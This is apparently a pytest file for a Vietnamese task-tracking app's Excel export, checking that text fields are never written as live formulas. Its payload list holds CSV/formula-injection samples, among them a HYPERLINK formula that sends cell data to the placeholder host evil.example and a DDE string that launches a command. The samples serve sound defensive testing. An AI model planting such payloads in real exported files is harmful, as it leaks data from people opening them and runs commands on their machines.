"""No text reaches a written workbook as a live formula (issue 13, item 6).

The quote-prefix guard looked at the text before control characters were stripped:
"\\x01=HYPERLINK(…)" passed it, lost its \\x01, and was written as a formula. A generated
corpus of prefixes (control characters, spaces, =, +, -, @ and their full-width forms) is
written through the export and read back from the file's XML.
"""

from __future__ import annotations

import itertools
import re
import zipfile
from datetime import date

import openpyxl

from dxdesk.core.exchange import workbook as wbk

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
            '=WEBSERVICE("http://evil.example/")', "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)"]  # fmt: skip
CONTROL = [chr(c) for c in range(0x00, 0x20)] + ["\x7f"]
SPACES = [" ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\t", "\r", "\n"]
STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", ""]


def _corpus() -> list[str]:
    prefixes = {""}
    for first, second in itertools.product(["", *CONTROL, *SPACES], ["", *CONTROL[:4], *SPACES]):
        for start in STARTS:
            prefixes.add(first + second + start)
    return [prefix + PAYLOADS[i % len(PAYLOADS)] for i, prefix in enumerate(sorted(prefixes))]


def test_no_generated_text_is_written_as_a_formula(tmp_path):
    texts = _corpus()
    assert len(texts) > 3_000
    batch = {
        "task": [{"code": f"NV{i:05d}", "text": text, "blocker": text, "status": "not_started",
                  "deadline": date(2024, 1, 1)} for i, text in enumerate(texts)],
        "agency": [{"code": "A", "name": texts[0], "kind": "so_nganh"}],
    }  # fmt: skip
    path = tmp_path / "xuat.xlsx"
    wbk.write_workbook(path, batch)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", z.read(name)), name
    ws = openpyxl.load_workbook(path)["Nhiệm vụ"]
    titles = [str(c.value).removesuffix(" *") for c in ws[1]]
    column = titles.index("Vướng mắc")
    for row in ws.iter_rows(min_row=2):
        cell = row[column]
        assert cell.data_type == "s", repr(cell.value)
        shown = str(cell.value).lstrip(" \u00a0\u3000\u200b\ufeff")
        if shown[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d",
                         "\uff20"):  # fmt: skip
            assert cell.quotePrefix, repr(cell.value)


def test_the_guard_decides_on_the_text_as_written():
    from dxdesk.core.exchange.workbook_write import looks_like_formula

    assert looks_like_formula("=1")
    assert looks_like_formula("  \uff1dHYPERLINK()")
    assert looks_like_formula("\t=1")
    assert not looks_like_formula("Sở Nội vụ")
    assert not looks_like_formula("")
